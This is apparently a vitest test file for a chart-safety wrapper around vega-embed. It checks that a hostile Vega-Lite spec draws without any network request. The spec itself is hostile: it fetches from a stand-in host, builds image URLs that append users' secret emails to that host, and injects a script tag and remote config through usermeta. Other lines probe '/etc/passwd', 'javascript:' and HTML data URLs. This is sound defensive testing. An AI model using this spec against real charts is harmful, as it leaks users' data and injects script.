// The chart options against the real vega-embed, Vega and Vega-Lite: a
// hostile spec draws (or fails) without a single request leaving the page.
import embed from 'vega-embed';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { closedLoader, embedOptions, isInlineImage, REFUSED, safeSpec } from './chartSafety';

const leak = 'http://127.0.0.1:9';
let fetches: string[];
let images: string[];

beforeEach(() => {
  fetches = [];
  images = [];
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (input) => {
    fetches.push(String(input instanceof Request ? input.url : input));
    return new Response('[]');
  });
  // Vega loads an image mark's picture through new Image().src.
  const desc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')!;
  vi.spyOn(HTMLImageElement.prototype, 'src', 'set').mockImplementation(function (this: HTMLImageElement, v: string) {
    images.push(v);
    desc.set!.call(this, v);
  });
});

afterEach(() => vi.restoreAllMocks());

const rows = [
  { name: 'a', secret: 'alice@example.org', n: 3 },
  { name: 'b', secret: 'bob@example.org', n: 5 },
];

/** Everything the issue found, in one spec. */
const hostile = {
  data: { values: rows },
  transform: [
    { lookup: 'name', from: { data: { url: `${leak}/lookup` }, key: 'name', fields: ['x'] } },
    { calculate: `'${leak}/img?d=' + datum.secret`, as: 'pic' },
  ],
  mark: 'image',
  encoding: {
    x: { field: 'name', type: 'nominal' },
    y: { field: 'n', type: 'quantitative' },
    url: { field: 'pic', type: 'nominal' },
    href: { field: 'pic', type: 'nominal' },
  },
  usermeta: {
    embedOptions: {
      actions: true,
      config: `${leak}/config.json`,
      sourceHeader: '<script>window.parent.pwned = 1</script>',
      loader: { baseURL: leak },
    },
  },
};

function target(): HTMLDivElement {
  const el = document.createElement('div');
  document.body.appendChild(el);
  return el;
}

describe('chart safety', () => {
  it('draws a hostile spec without fetching, loading an image or showing actions', async () => {
    const el = target();
    const res = await embed(el, safeSpec(hostile) as never, embedOptions({ renderer: 'svg' }));
    await res.view.runAsync();
    await new Promise((r) => setTimeout(r, 50));
    expect(fetches).toEqual([]);
    expect(images.filter((u) => u.startsWith('http'))).toEqual([]);
    expect(el.querySelector('.vega-actions, details')).toBeNull();
    // The address may be read (an aria-label), never loaded.
    expect(el.querySelectorAll('[href^="http"], [src^="http"], [srcset], [style*="url("]')).toHaveLength(0);
    res.finalize();
  });

  it('without it, the same spec reaches out (the test can fail)', async () => {
    const el = target();
    const drawing = embed(el, hostile as never, { renderer: 'svg' }).catch(() => null);
    await Promise.race([drawing, new Promise((r) => setTimeout(r, 1000))]);
    expect(fetches.concat(images).some((u) => u.startsWith(leak))).toBe(true);
    void drawing.then((res) => res?.finalize());
  });

  it('drops usermeta and nothing else', () => {
    const s = safeSpec(hostile);
    expect(s).not.toHaveProperty('usermeta');
    expect(s['transform']).toBe(hostile.transform);
    expect(hostile).toHaveProperty('usermeta');
  });

  it('refuses every address but an inline image, and never a link', async () => {
    const l = closedLoader();
    await expect(l.load(`${leak}/x.csv`)).rejects.toThrow(REFUSED);
    await expect(l.http(`${leak}/x.csv`, {})).rejects.toThrow(REFUSED);
    await expect(l.file('/etc/passwd')).rejects.toThrow(REFUSED);
    await expect(l.sanitize(`${leak}/x.png`, { context: 'image' })).rejects.toThrow(REFUSED);
    await expect(l.sanitize('data:text/html,<script>1</script>', { context: 'image' })).rejects.toThrow(REFUSED);
    await expect(l.sanitize('data:image/png;base64,iVBORw0KGgo=', { context: 'href' })).rejects.toThrow(REFUSED);
    await expect(l.sanitize('data:image/png;base64,iVBORw0KGgo=', { context: 'image' })).resolves.toEqual({
      href: 'data:image/png;base64,iVBORw0KGgo=',
    });
    expect(isInlineImage('javascript:alert(1)')).toBe(false);
  });

  it('fixes actions, mode and expression interpretation whatever the caller adds', () => {
    const o = embedOptions({ renderer: 'canvas' });
    expect(o).toMatchObject({ actions: false, mode: 'vega-lite', ast: true, renderer: 'canvas' });
  });
});
